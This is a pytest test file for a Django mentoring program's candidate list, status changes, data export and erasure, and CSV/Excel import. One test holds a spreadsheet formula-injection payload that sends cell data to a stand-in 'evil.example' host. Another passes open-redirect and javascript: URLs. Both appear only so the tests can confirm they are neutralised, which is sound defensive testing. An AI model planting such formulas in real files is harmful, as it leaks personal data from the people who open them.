"""The coordinator's candidate list, detail, statuses, import/export and data protection."""

import csv
import io
import json

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from matching.intake.tabular import columns
from matching.models import Candidate, CandidateLanguage, CandidateStatusChange, SkillRating
from tests.factories import CandidateFactory, ProgramFactory

pytestmark = pytest.mark.django_db


def candidates_url(program, **params):
    return reverse("matching:candidates", args=[program.pk])


class TestAccess:
    def test_outsiders_never_see_candidates(self, client, program, other_coordinator, participant):
        candidate = CandidateFactory(program=program)
        urls = [
            reverse("matching:candidates", args=[program.pk]),
            reverse("matching:candidate", args=[program.pk, candidate.pk]),
            reverse("matching:candidate_data", args=[program.pk, candidate.pk]),
            reverse("matching:candidate_erase", args=[program.pk, candidate.pk]),
            reverse("matching:export", args=[program.pk, "csv"]),
            reverse("matching:import", args=[program.pk]),
            reverse("matching:call", args=[program.pk]),
        ]
        for url in urls:
            assert client.get(url).status_code == 302  # anonymous: to the login page
        client.force_login(other_coordinator)
        for url in urls:
            assert client.get(url).status_code == 404
        client.force_login(participant)
        for url in urls:
            assert client.get(url).status_code == 403

    def test_a_candidate_of_another_program_is_404_under_mine(self, coordinator_client, program):
        elsewhere = CandidateFactory()
        url = reverse("matching:candidate", args=[program.pk, elsewhere.pk])
        assert coordinator_client.get(url).status_code == 404

    def test_bulk_status_cannot_reach_another_programs_candidates(
        self, coordinator_client, program
    ):
        elsewhere = CandidateFactory()
        coordinator_client.post(
            reverse("matching:bulk_status", args=[program.pk]),
            {"candidates": [elsewhere.pk], "status": "accepted"},
        )
        elsewhere.refresh_from_db()
        assert elsewhere.status == Candidate.Status.APPLIED


class TestList:
    def test_filters_and_search(self, coordinator_client, program):
        excel = program.skills.get(name__startswith="Hojas de cálculo")
        ana = CandidateFactory(
            program=program,
            full_name="Ana Ruiz",
            desired_role="mentor",
            department="Marketing",
            ratings={excel.name: (5, False)},
            languages=["es", "en"],
        )
        both = CandidateFactory(
            program=program,
            full_name="Blas Gil",
            desired_role="both",
            ratings={excel.name: (4, False)},
        )
        mentee = CandidateFactory(
            program=program, full_name="Carla Sanz", status="shortlisted", email="carla@empresa.es"
        )
        cases = [
            ({"role": "mentor"}, [ana, both]),
            ({"role": "mentee"}, [both, mentee]),
            ({"status": "shortlisted"}, [mentee]),
            ({"department": "Marketing"}, [ana]),
            ({"language": "en"}, [ana]),
            ({"skill": excel.pk, "min_level": 4}, [ana, both]),
            ({"skill": excel.pk, "min_level": 5}, [ana]),
            ({"q": "empresa.es"}, [mentee]),
            ({"q": "blas"}, [both]),
            ({"sort": "status"}, [ana, both, mentee]),
        ]
        for params, expected in cases:
            response = coordinator_client.get(candidates_url(program), params)
            assert list(response.context["page"]().object_list) == expected, params

    def test_empty_states(self, coordinator_client, program):
        html = coordinator_client.get(candidates_url(program)).content.decode()
        assert "Todavía no hay candidatos" in html
        CandidateFactory(program=program)
        html = coordinator_client.get(candidates_url(program), {"q": "zzz"}).content.decode()
        assert "Ningún candidato coincide con estos filtros" in html

    @pytest.mark.parametrize("count", [10, 500])
    def test_query_count_is_the_same_for_10_and_500(
        self, coordinator_client, program, count, django_assert_num_queries
    ):
        candidates = Candidate.objects.bulk_create(
            CandidateFactory.build(program=program, email=f"c{n}@example.com") for n in range(count)
        )
        CandidateLanguage.objects.bulk_create(
            CandidateLanguage(candidate=c, code="es") for c in candidates
        )
        skill = program.skills.first()
        SkillRating.objects.bulk_create(
            SkillRating(candidate=c, skill=skill, level=4) for c in candidates
        )
        # session, user, program, skills, departments, count, page, languages, total
        with django_assert_num_queries(9):
            response = coordinator_client.get(
                candidates_url(program), {"skill": skill.pk, "min_level": 3, "language": "es"}
            )
        assert response.context["page"]().paginator.count == count
        # Until the program's data changes, the same query is kept: session, user, program.
        with django_assert_num_queries(3):
            again = coordinator_client.get(
                candidates_url(program), {"skill": skill.pk, "min_level": 3, "language": "es"}
            )
        assert again.content.count(b'name="candidates"') == min(count, 25)

    def test_bulk_status_change_records_who_and_when(
        self, coordinator_client, coordinator, program
    ):
        first, second, third = (CandidateFactory(program=program) for _ in range(3))
        response = coordinator_client.post(
            reverse("matching:bulk_status", args=[program.pk]),
            {"candidates": [first.pk, second.pk], "status": "shortlisted"},
            follow=True,
        )
        assert "2 candidaturas están ahora en «Preseleccionada»" in response.getvalue().decode()
        assert set(program.candidates.filter(status="shortlisted")) == {first, second}
        change = CandidateStatusChange.objects.get(candidate=first)
        assert (change.from_status, change.to_status, change.actor) == (
            "applied",
            "shortlisted",
            coordinator,
        )
        third.refresh_from_db()
        assert third.status == "applied"

    def test_bulk_status_without_a_tick_explains(self, coordinator_client, program):
        response = coordinator_client.post(
            reverse("matching:bulk_status", args=[program.pk]), {"status": "accepted"}, follow=True
        )
        assert "Marque al menos un candidato." in response.getvalue().decode()

    def test_actions_are_post_only(self, coordinator_client, program):
        candidate = CandidateFactory(program=program)
        for url in [
            reverse("matching:bulk_status", args=[program.pk]),
            reverse("matching:candidate_status", args=[program.pk, candidate.pk]),
            reverse("matching:call_open", args=[program.pk]),
            reverse("matching:call_close", args=[program.pk]),
        ]:
            assert coordinator_client.get(url).status_code == 405


class TestDetail:
    def test_shows_answers_chart_and_history(self, coordinator_client, program):
        candidate = CandidateFactory(program=program, full_name="Rosa Delgado")
        response = coordinator_client.get(
            reverse("matching:candidate", args=[program.pk, candidate.pk])
        )
        html = response.getvalue().decode()
        assert "Los informes me llevan mucho tiempo." in html
        assert "<svg" in html and "ratings-chart" in html
        assert html.count("<rect") == 2 * program.skills.count()

    def test_one_status_change(self, coordinator_client, coordinator, program):
        candidate = CandidateFactory(program=program)
        coordinator_client.post(
            reverse("matching:candidate_status", args=[program.pk, candidate.pk]),
            {"status": "accepted"},
        )
        candidate.refresh_from_db()
        assert candidate.status == "accepted"
        assert candidate.status_changes.get().actor == coordinator


class TestDataProtection:
    def test_export_one_persons_data(self, coordinator_client, program):
        candidate = CandidateFactory(program=program, full_name="Rosa Delgado")
        response = coordinator_client.get(
            reverse("matching:candidate_data", args=[program.pk, candidate.pk])
        )
        data = json.loads(response.getvalue())
        assert data["full_name"] == "Rosa Delgado"
        assert len(data["ratings"]) == program.skills.count()
        assert "attachment" in response["Content-Disposition"]

    def test_erase_asks_then_anonymises_and_keeps_aggregates(self, coordinator_client, program):
        candidate = CandidateFactory(
            program=program, full_name="Rosa Delgado", email="rosa@example.com"
        )
        token = candidate.access_token
        url = reverse("matching:candidate_erase", args=[program.pk, candidate.pk])
        assert "No se puede deshacer" in coordinator_client.get(url).content.decode()
        candidate.refresh_from_db()
        assert candidate.full_name == "Rosa Delgado"

        coordinator_client.post(url)
        candidate.refresh_from_db()
        assert candidate.is_anonymised
        assert "Rosa" not in candidate.full_name and "rosa" not in candidate.email
        assert candidate.current_challenges == "" and candidate.department == ""
        assert candidate.ratings.count() == program.skills.count()
        assert (
            coordinator_client.get(reverse("matching:application", args=[token])).status_code == 404
        )


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def csv_bytes(rows: list[list]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8")


def import_row(program, **values) -> dict:
    row = {
        "full_name": "Pedro Sanz",
        "email": "pedro@example.com",
        "desired_role": "mentee",
        "current_role": "Jefe de almacén",
        "department": "Logística",
        "manager_email": "",
        "years_in_organisation": "25",
        "level": "4",
        "languages": "es, en",
        "availability": "morning",
        "linkedin_url": "",
        "strengths": "Organización",
        "areas_to_deepen": "Datos",
        "first_expectation": "Excel",
        "self_description": "Tenaz",
        "current_challenges": "Informes",
        "mentoring_meaning": "Aprender",
        "status": "",
    }
    for skill in program.skills.order_by("kind", "id"):
        row[f"skill:{skill.name}"] = "2"
    row["wants_to_learn"] = "Seguridad; Resolución de problemas"
    row.update(values)
    return row


class TestImportExport:
    def post_import(self, client, program, rows, name="candidates.csv"):
        header = columns(list(program.skills.order_by("kind", "id")))
        table = [header] + [[row.get(column, "") for column in header] for row in rows]
        return client.post(
            reverse("matching:import", args=[program.pk]), {"file": upload(name, csv_bytes(table))}
        )

    def test_valid_csv_imports_every_row(self, coordinator_client, program):
        rows = [
            import_row(program),
            import_row(program, email="lola@example.com", full_name="Lola Ríos"),
        ]
        response = self.post_import(coordinator_client, program, rows)
        assert response.status_code == 302
        pedro = program.candidates.get(email="pedro@example.com")
        assert pedro.source == Candidate.Source.IMPORT and pedro.status == "applied"
        assert sorted(lang.code for lang in pedro.languages.all()) == ["en", "es"]
        assert set(
            pedro.ratings.filter(wants_to_learn=True).values_list("skill__name", flat=True)
        ) == {
            "Seguridad",
            "Resolución de problemas",
        }

    def test_any_error_saves_nothing_and_is_listed_by_line_and_column(
        self, coordinator_client, program
    ):
        CandidateFactory(program=program, email="existe@example.com")
        rows = [
            import_row(program),
            import_row(program, email="pedro@example.com"),
            import_row(program, email="existe@example.com"),
            import_row(program, email="x@example.com", level="9", **{"skill:Seguridad": "7"}),
            import_row(program, email="y@example.com", wants_to_learn="Cocina"),
        ]
        response = self.post_import(coordinator_client, program, rows)
        errors = {(e.line, e.column) for e in response.context["errors"]}
        assert {
            (3, "email"),
            (4, "email"),
            (5, "level"),
            (5, "skill:Seguridad"),
            (6, "wants_to_learn"),
        } <= errors
        assert (2, "email") not in errors
        assert program.candidates.count() == 1
        assert "nada se ha importado" in response.getvalue().decode()

    def test_missing_columns_are_reported_on_line_one(self, coordinator_client, program):
        content = csv_bytes([["full_name", "email"], ["Pedro", "p@example.com"]])
        response = coordinator_client.post(
            reverse("matching:import", args=[program.pk]), {"file": upload("c.csv", content)}
        )
        assert (1, "desired_role") in {(e.line, e.column) for e in response.context["errors"]}

    def test_rejects_other_file_types_and_garbage(self, coordinator_client, program):
        url = reverse("matching:import", args=[program.pk])
        response = coordinator_client.post(url, {"file": upload("c.pdf", b"%PDF")})
        assert "Suba un archivo .csv o .xlsx." in response.getvalue().decode()
        response = coordinator_client.post(url, {"file": upload("c.xlsx", b"not a zip")})
        assert "no es un archivo de Excel legible" in response.getvalue().decode()

    def test_export_round_trips_through_import(self, coordinator_client, program, coordinator):
        excel = program.skills.get(name__startswith="Hojas de cálculo")
        CandidateFactory(
            program=program,
            full_name="Rosa Delgado",
            ratings={excel.name: (1, True)},
            languages=["es", "fr"],
        )
        exported = coordinator_client.get(reverse("matching:export", args=[program.pk, "xlsx"]))
        assert exported["Content-Type"].startswith("application/vnd.openxmlformats")
        content = exported.getvalue()
        sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
        rows = list(sheet.values)
        assert rows[0][:2] == ("full_name", "email")
        assert rows[1][0] == "Rosa Delgado"
        assert excel.name in rows[1][-1]

        # Skills are matched by name, so the file moves candidates between programs.
        other = ProgramFactory(actor=coordinator)
        response = coordinator_client.post(
            reverse("matching:import", args=[other.pk]),
            {"file": upload("back.xlsx", content)},
        )
        assert response.status_code == 302
        rosa = other.candidates.get()
        assert rosa.full_name == "Rosa Delgado"
        assert rosa.ratings.get(skill__name=excel.name).wants_to_learn
        assert sorted(lang.code for lang in rosa.languages.all()) == ["es", "fr"]

    def test_csv_export_and_templates(self, coordinator_client, program):
        CandidateFactory(program=program, full_name="Rosa Delgado")
        exported = coordinator_client.get(reverse("matching:export", args=[program.pk, "csv"]))
        text = exported.getvalue().decode("utf-8-sig")
        assert text.splitlines()[0].startswith("full_name,email,")
        assert "Rosa Delgado" in text
        template = coordinator_client.get(reverse("matching:template", args=[program.pk, "csv"]))
        assert template.getvalue().decode("utf-8-sig").strip().split(",")[0] == "full_name"
        assert (
            coordinator_client.get(reverse("matching:export", args=[program.pk, "pdf"])).status_code
            == 404
        )


def test_removing_a_rated_skill_asks_first(coordinator_client, program):
    CandidateFactory(program=program)
    skills = list(program.skills.order_by("kind", "id"))
    data = {
        "skills-TOTAL_FORMS": str(len(skills)),
        "skills-INITIAL_FORMS": str(len(skills)),
        "skills-MIN_NUM_FORMS": "0",
        "skills-MAX_NUM_FORMS": "1000",
    }
    for index, skill in enumerate(skills):
        data.update(
            {
                f"skills-{index}-id": skill.pk,
                f"skills-{index}-kind": skill.kind,
                f"skills-{index}-name": skill.name,
            }
        )
    data["skills-0-DELETE"] = "on"
    url = reverse("programs:skills", args=[program.pk])
    response = coordinator_client.post(url, data)
    assert "Los candidatos ya han valorado estas habilidades" in response.getvalue().decode()
    assert program.skills.filter(pk=skills[0].pk).exists()
    coordinator_client.post(url, {**data, "confirm_removal": "1"})
    assert not program.skills.filter(pk=skills[0].pk).exists()
    assert SkillRating.objects.filter(skill_id=skills[0].pk).count() == 0


def test_exports_never_carry_a_live_formula(coordinator_client, program):
    import io

    import openpyxl

    evil = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
    CandidateFactory(program=program, full_name=evil)
    csv_text = (
        coordinator_client.get(reverse("matching:export", args=[program.pk, "csv"]))
        .getvalue()
        .decode("utf-8-sig")
    )
    assert "'=HYPERLINK" in csv_text and ',"=HYPERLINK' not in csv_text
    xlsx = coordinator_client.get(reverse("matching:export", args=[program.pk, "xlsx"]))
    cell = openpyxl.load_workbook(io.BytesIO(xlsx.getvalue())).worksheets[0]["A2"]
    assert cell.data_type == "s" and cell.value == "'" + evil


@pytest.mark.parametrize(
    "next_url", ["https://evil.example/", "//evil.example/x", "javascript:alert(1)"]
)
def test_the_status_form_never_redirects_elsewhere(coordinator_client, program, next_url):
    candidate = CandidateFactory(program=program)
    response = coordinator_client.post(
        reverse("matching:bulk_status", args=[program.pk]),
        {"candidates": [candidate.pk], "status": "shortlisted", "next": next_url},
    )
    assert response.status_code == 302
    assert response.url == reverse("matching:candidates", args=[program.pk])


def test_the_status_form_returns_to_the_filtered_list(coordinator_client, program):
    candidate = CandidateFactory(program=program)
    back = reverse("matching:candidates", args=[program.pk]) + "?status=applied&page=2"
    response = coordinator_client.post(
        reverse("matching:bulk_status", args=[program.pk]),
        {"candidates": [candidate.pk], "status": "shortlisted", "next": back},
    )
    assert response.url == back


def test_downloads_of_personal_data_are_in_the_programs_log(
    coordinator_client, coordinator, program
):
    candidate = CandidateFactory(program=program)
    coordinator_client.get(reverse("matching:export", args=[program.pk, "xlsx"]))
    coordinator_client.get(reverse("matching:candidate_data", args=[program.pk, candidate.pk]))
    entries = list(program.log_entries.values_list("action", "actor", "data")[:2])
    assert entries == [
        ("matching.candidate_data_exported", coordinator.pk, {"candidate": candidate.pk}),
        ("matching.candidates_exported", coordinator.pk, {"format": "xlsx"}),
    ]


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("big.csv", b"full_name\n" + b"Rosa\n" * 2500, "más de 2000 filas"),
        ("bad.csv", b'full_name\n"' + b"x" * 200_000, "no es un csv legible"),
        ("bad.xlsx", b"PK not really", "no es un archivo de excel legible"),
    ],
)
def test_an_unreadable_or_huge_import_is_explained_not_a_500(
    coordinator_client, program, name, content, message
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = coordinator_client.post(
        reverse("matching:import", args=[program.pk]),
        {"file": SimpleUploadedFile(name, content)},
    )
    assert response.status_code == 200
    assert message in response.content.decode().lower()
    assert not program.candidates.exists()
